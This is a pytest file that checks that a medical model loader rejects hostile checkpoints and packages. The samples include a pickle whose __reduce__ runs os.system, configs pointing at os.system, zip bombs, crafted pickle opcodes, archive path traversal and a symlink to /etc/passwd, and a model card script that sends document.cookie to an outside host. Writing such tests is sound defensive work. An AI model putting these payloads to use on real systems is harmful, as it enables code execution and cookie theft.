"""Hostile checkpoints and model packages: each costs one line, little memory and time; nothing is run or written."""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch
from packages import description, forge, package, rewrite, save

from liverspleen.inference.model import load_model

CHILD = Path(__file__).with_name("hostile_child.py")
MAX_MB, MAX_S = 1000, 20.0  # processor seconds, imports of torch included; hostile input would take minutes


class Canary:
    """A pickle of it touches a file when it is loaded."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return (os.system, (f"touch {self.path}",))


@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A valid checkpoint; the tests below change it."""
    file = save(tmp_path_factory.mktemp("good") / "best.ckpt")
    assert load_model(file).stride == 8
    return file


@dataclass(frozen=True)
class Loaded:
    """Result of loading a model: the expected issue code, and the report of the process that loaded it."""

    code: str
    lines: list[str]
    seconds: float
    peak_mb: float
    torch: bool
    events: list[str]
    canary: bool


def loaded(models: Sequence[tuple[str, Path]], *, engine: str = "torch", warm: bool = False) -> list[Loaded]:
    """Each model (code, path) loaded by one process, which may write nothing."""
    asked = {"warm": warm, "models": [[str(path), engine] for _, path in models]}
    environment = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "OMP_NUM_THREADS": "1"}
    folders = {path.parent for _, path in models}
    before = {folder: sorted(folder.rglob("*")) for folder in folders}
    words = [sys.executable, str(CHILD)]
    run = subprocess.run(words, input=json.dumps(asked), capture_output=True, text=True, env=environment)
    assert run.returncode == 0, run.stderr
    assert run.stderr == ""
    assert {folder: sorted(folder.rglob("*")) for folder in folders} == before
    rows = [json.loads(line) for line in run.stdout.splitlines()]
    return [
        Loaded(code, **row, canary=(path.parent / "canary").exists())
        for (code, path), row in zip(models, rows, strict=True)
    ]


def assert_rejected(found: Loaded) -> None:
    (line,) = found.lines
    assert line.startswith(f"{found.code} ")
    assert line.isprintable()
    assert len(line) < 700
    assert found.events == []
    assert not found.canary
    assert found.peak_mb < MAX_MB
    assert found.seconds < MAX_S


# checkpoints: what they are, and the code of the line


def reduce_in_plain_values(file: Path, canary: Path) -> str:
    torch.save({"state_dict": {}, "liverspleen": Canary(canary)}, file)
    return "LS-MOD-002"


def reduce_in_nested_state(file: Path, canary: Path) -> str:
    save(file, extra={"optimizer_states": [{"state": {0: {"step": Canary(canary)}}}]})
    return "LS-MOD-002"


def pickle_alone(file: Path, canary: Path) -> str:
    file.write_bytes(pickle.dumps(Canary(canary)))
    return "LS-MOD-002"


def legacy_file(file: Path, canary: Path) -> str:
    torch.save({"liverspleen": Canary(canary)}, file, _use_new_zipfile_serialization=False)
    return "LS-MOD-002"


def legacy_tar(file: Path, canary: Path) -> str:
    with tarfile.open(file, "w") as archive:
        for name in ("storages", "tensors", "pickle"):
            data = pickle.dumps(Canary(canary))
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return "LS-MOD-002"


def target_in_network(file: Path, canary: Path) -> str:
    save(file, network={"name": "unet_2d", "_target_": "os.system", "command": f"touch {canary}"})
    return "LS-MOD-008"


def encoder_of_a_hub(file: Path, canary: Path) -> str:
    save(file, network={"name": "deeplab", "encoder": "hf-hub:someone/model"})
    return "LS-MOD-008"


def encoder_of_a_folder(file: Path, canary: Path) -> str:
    save(file, network={"name": "deeplab", "encoder": f"local-dir:{file.parent}"})
    return "LS-MOD-008"


def width_without_bound(file: Path, canary: Path) -> str:
    save(file, network={"name": "unet_2d", "output_stride": 8, "width": 10**9})
    return "LS-MOD-008"


def numbers_that_are_nan(file: Path, canary: Path) -> str:
    save(file, window={"lower_hu": float("nan"), "upper_hu": 1.0, "clip": True})
    return "LS-MOD-007"


def zip_bomb(file: Path, canary: Path) -> str:
    with (
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("archive/data.pkl", "w") as entry,
    ):
        for _ in range(1200):
            entry.write(bytes(1 << 20))
    assert file.stat().st_size < 8e6
    return "LS-MOD-005"


def _pickled(file: Path, data: bytes) -> str:
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", data)
    return "LS-MOD-002"


def nested_tuple_as_key(file: Path, canary: Path) -> str:
    """Its hash would overflow the C stack."""
    return _pickled(file, b"\x80\x02}" + b")" + b"\x85" * 200_000 + b"K\x01s.")


def memo_of_four_billion(file: Path, canary: Path) -> str:
    """pickle makes an array of it."""
    return _pickled(file, b"\x80\x02}r" + struct.pack("<I", 2**32 - 1) + b"c__builtin__\neval\n.")


def two_million_opcodes(file: Path, canary: Path) -> str:
    return _pickled(file, b"\x80\x02" + b"N" * 2_000_000 + b".")


def million_laughs(file: Path, canary: Path) -> str:
    """Few objects with 10^30 references when traversed."""
    laugh: Any = ["ha"]
    for _ in range(30):
        laugh = [laugh] * 10
    save(file, joke=laugh)
    return "LS-MOD-007"


def tensor_beyond_its_storage(file: Path, canary: Path) -> str:
    save(file)
    with zipfile.ZipFile(file) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data[:4] if name.endswith("/data/0") else data)
    return "LS-MOD-002"


def overlapping_entries(file: Path, canary: Path) -> str:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("archive/data.pkl", bytes(100_000))
        archive.writestr("archive/data/0", b"")
        first, second = archive.infolist()
        second.header_offset = first.header_offset
        second.file_size = second.compress_size = first.file_size
        second.orig_filename = first.orig_filename
    file.write_bytes(data.getvalue())
    return "LS-MOD-005"


def directory_of_many_entries(file: Path, canary: Path) -> str:
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(80_000):
            archive.writestr(zipfile.ZipInfo(f"archive/data/{number}"), b"")
    return "LS-MOD-005"


EARLY = [
    reduce_in_plain_values,
    reduce_in_nested_state,
    pickle_alone,
    legacy_file,
    legacy_tar,
    target_in_network,
    encoder_of_a_hub,
    encoder_of_a_folder,
    width_without_bound,
    numbers_that_are_nan,
    zip_bomb,
    nested_tuple_as_key,
    memo_of_four_billion,
    two_million_opcodes,
    million_laughs,
    tensor_beyond_its_storage,
    overlapping_entries,
    directory_of_many_entries,
]


@pytest.fixture(scope="module")
def checkpoints(tmp_path_factory: pytest.TempPathFactory, checkpoint: Path) -> dict[Any, Loaded]:
    models = []
    for made in EARLY:
        file = tmp_path_factory.mktemp("evil") / "evil.ckpt"
        models.append((made(file, file.parent / "canary"), file))
    return dict(zip(EARLY, loaded(models), strict=True))


@pytest.mark.parametrize("made", EARLY, ids=lambda made: made.__name__)
def test_checkpoint_is_rejected_before_torch(made: Any, checkpoints: dict[Any, Loaded]) -> None:
    assert_rejected(checkpoints[made])
    assert not checkpoints[made].torch


# model packages as folders


def link_in_folder(folder: Path) -> str:
    (folder / "model.safetensors").rename(folder.parent / "outside")
    (folder / "model.safetensors").symlink_to(folder.parent / "outside")
    return "LS-MOD-004"


def file_outside(folder: Path) -> str:
    (folder.parent / "outside").write_text("secret")
    rewrite(folder, lambda content: content["files"].__setitem__("../outside", content["files"]["LICENSE"]))
    return "LS-MOD-004"


def header_of_2_to_the_60(folder: Path) -> str:
    forge(folder, "model.safetensors", struct.pack("<Q", 2**60) + b"{}")
    return "LS-MOD-009"


def _tensors(folder: Path, header: dict[str, Any], numbers: int) -> str:
    text = json.dumps(header).encode()
    forge(folder, "model.safetensors", struct.pack("<Q", len(text)) + text + bytes(numbers))
    return "LS-MOD-009"


def overlapping_tensors(folder: Path) -> str:
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    return _tensors(folder, {"a": one, "b": one | {"data_offsets": [4, 12]}}, 12)


def huge_shapes(folder: Path) -> str:
    return _tensors(folder, {"a": {"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [0, 8]}}, 8)


def shape_of_more_than_the_bytes(folder: Path) -> str:
    return _tensors(folder, {"a": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 8]}}, 8)


def deep_header(folder: Path) -> str:
    text = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    forge(folder, "model.safetensors", struct.pack("<Q", len(text)) + text)
    return "LS-MOD-007"


def deep_json(folder: Path) -> str:
    (folder / "model.json").write_text('{"a":' * 100_000 + "1" + "}" * 100_000)
    return "LS-MOD-007"


def json_of_nan(folder: Path) -> str:
    rewrite(folder, lambda content: content["model"].__setitem__("pixel_mm", float("nan")))
    return "LS-MOD-007"


def json_of_an_endless_number(folder: Path) -> str:
    text = (folder / "model.json").read_text().replace('"slices": 3', f'"slices": {"9" * 500_000}')
    (folder / "model.json").write_text(text)
    return "LS-MOD-007"


def json_of_an_infinite_number(folder: Path) -> str:
    text = (folder / "model.json").read_text().replace('"slices": 3', '"slices": 1e999')
    (folder / "model.json").write_text(text)
    return "LS-MOD-007"


def json_with_a_repeated_key(folder: Path) -> str:
    text = (folder / "model.json").read_text().replace('"slices": 3', '"slices": 3, "slices": 5')
    (folder / "model.json").write_text(text)
    return "LS-MOD-007"


def json_without_end(folder: Path) -> str:
    with (folder / "model.json").open("wb") as file:
        file.truncate(1 << 33)  # a sparse file
    return "LS-MOD-007"


def other_weights(folder: Path) -> str:
    data = bytearray((folder / "model.safetensors").read_bytes())
    data[-1] ^= 1
    (folder / "model.safetensors").write_bytes(data)
    return "LS-MOD-006"


def card_with_a_script(folder: Path) -> str:
    forge(folder, "MODEL_CARD.md", b"# Model\n<script>fetch('//x/'+document.cookie)</script>\n")
    return "LS-MOD-015"


def card_with_a_link_that_runs(folder: Path) -> str:
    forge(folder, "MODEL_CARD.md", b"# Model\n[license](javascript:alert(1))\n")
    return "LS-MOD-015"


def target_in_package(folder: Path) -> str:
    rewrite(folder, lambda content: content["model"]["network"].__setitem__("_target_", "os.system"))
    return "LS-MOD-008"


FOLDERS = [
    link_in_folder,
    file_outside,
    header_of_2_to_the_60,
    overlapping_tensors,
    huge_shapes,
    shape_of_more_than_the_bytes,
    deep_header,
    deep_json,
    json_of_nan,
    json_of_an_endless_number,
    json_of_an_infinite_number,
    json_with_a_repeated_key,
    json_without_end,
    other_weights,
    card_with_a_script,
    card_with_a_link_that_runs,
    target_in_package,
]


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory, checkpoint: Path) -> dict[Any, Loaded]:
    models = []
    for spoil in FOLDERS:
        folder = tmp_path_factory.mktemp("evil") / "package"
        package(folder, checkpoint)
        models.append((spoil(folder), folder))
    return dict(zip(FOLDERS, loaded(models), strict=True))


@pytest.mark.parametrize("spoil", FOLDERS, ids=lambda spoil: spoil.__name__)
def test_package_folder_is_rejected_before_torch(spoil: Any, folders: dict[Any, Loaded]) -> None:
    assert_rejected(folders[spoil])
    assert not folders[spoil].torch


# model packages as archives


def zipped(folder: Path, *, method: int = zipfile.ZIP_STORED) -> Path:
    file = folder.with_suffix(".zip")
    with zipfile.ZipFile(file, "w", method) as archive:
        for one in sorted(folder.iterdir()):
            archive.write(one, one.name)
    return file


def add(file: Path, name: str, data: bytes = b"x", *, mode: int = stat.S_IFREG | 0o644) -> None:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = mode << 16
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(entry, data)


def path_traversal(file: Path) -> str:
    add(file, "../canary")
    return "LS-MOD-005"


def absolute_name(file: Path) -> str:
    add(file, str(file.parent / "canary"))
    return "LS-MOD-005"


def name_of_windows(file: Path) -> str:
    add(file, "..\\canary")
    return "LS-MOD-005"


def link_in_archive(file: Path) -> str:
    add(file, "model.onnx", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)
    return "LS-MOD-005"


def more_than_named(file: Path) -> str:
    add(file, "setup.py", b"import os")
    return "LS-MOD-004"


def two_of_a_name(file: Path) -> str:
    with pytest.warns(UserWarning, match="Duplicate name"):
        add(file, "model.json", b"{}")
    return "LS-MOD-005"


def bomb_in_archive(file: Path) -> str:
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("model.onnx", "w") as entry:
        for _ in range(500):
            entry.write(bytes(1 << 20))
    return "LS-MOD-005"


def cut_off(file: Path) -> str:
    file.write_bytes(file.read_bytes()[:-30])
    return "LS-MOD-005"


ARCHIVES = [
    path_traversal,
    absolute_name,
    name_of_windows,
    link_in_archive,
    more_than_named,
    two_of_a_name,
    bomb_in_archive,
    cut_off,
]


@pytest.fixture(scope="module")
def archives(tmp_path_factory: pytest.TempPathFactory, checkpoint: Path) -> dict[Any, Loaded]:
    models = []
    for spoil in ARCHIVES:
        folder = tmp_path_factory.mktemp("evil") / "package"
        package(folder, checkpoint)
        file = zipped(folder)
        models.append((spoil(file), file))
    return dict(zip(ARCHIVES, loaded(models), strict=True))


@pytest.mark.parametrize("spoil", ARCHIVES, ids=lambda spoil: spoil.__name__)
def test_package_archive_is_rejected_before_torch(spoil: Any, archives: dict[Any, Loaded]) -> None:
    assert_rejected(archives[spoil])
    assert not archives[spoil].torch


# checks that need the network


def test_network_larger_than_its_weights_is_never_built(tmp_path: Path) -> None:
    """timm's largest dilated ResNet would take 3.7 GB; the file states the weights of a small U-Net."""
    file = save(tmp_path / "evil.ckpt", network={"name": "deeplab", "encoder": "resnetv2_152x4_bit"})
    (found,) = loaded([("LS-MOD-010", file)], warm=True)
    assert_rejected(found)


def onnx_model(*nodes: Any, **initializer: Any) -> bytes:
    onnx = pytest.importorskip("onnx")
    given, made = (
        onnx.helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, ["b", 3, "h", "w"])
        for name in ("slices", "logits")
    )
    tensors = [initializer["tensor"]] if initializer else []
    graph = onnx.helper.make_graph(list(nodes), "g", [given], [made], tensors)
    opset = [onnx.helper.make_opsetid("", 20), onnx.helper.make_opsetid("evil", 1)]
    data: bytes = onnx.helper.make_model(graph, opset_imports=opset).SerializeToString()
    return data


def external_data(folder: Path) -> bytes:
    onnx = pytest.importorskip("onnx")
    (folder.parent / "outside").write_bytes(bytes(4))
    tensor = onnx.TensorProto(name="w", data_type=onnx.TensorProto.FLOAT, dims=[1])
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../outside")
    return onnx_model(onnx.helper.make_node("Add", ["slices", "w"], ["logits"]), tensor=tensor)


def foreign_operator(folder: Path) -> bytes:
    onnx = pytest.importorskip("onnx")
    return onnx_model(onnx.helper.make_node("Run", ["slices"], ["logits"], domain="evil"))


def endless_loop(folder: Path) -> bytes:
    onnx = pytest.importorskip("onnx")
    body = onnx.helper.make_graph([], "body", [], [])
    return onnx_model(onnx.helper.make_node("Loop", ["", "", "slices"], ["logits"], body=body))


def no_onnx(folder: Path) -> bytes:
    return b"\xff" * 1000


def test_onnx_is_rejected_before_torch(tmp_path: Path, checkpoint: Path) -> None:
    models = []
    for made in (external_data, foreign_operator, endless_loop, no_onnx):
        folder = tmp_path / made.__name__ / "package"
        package(folder, checkpoint)
        forge(folder, "model.onnx", made(folder))
        models.append(("LS-MOD-013", folder))
    for found in loaded(models, engine="onnxruntime"):
        assert_rejected(found)
        assert not found.torch


def test_good_model_is_loaded_where_no_file_may_be_written(tmp_path: Path, checkpoint: Path) -> None:
    """Control: the process of the rejections above can load a valid model."""
    package(tmp_path / "package", checkpoint)
    models = [("", path) for path in (checkpoint, tmp_path / "package", zipped(tmp_path / "package"))]
    assert [found.lines for found in loaded(models)] == [[], [], []]


def test_description_of_these_tests_is_valid(tmp_path: Path) -> None:
    assert load_model(save(tmp_path / "a.ckpt")).description == description()
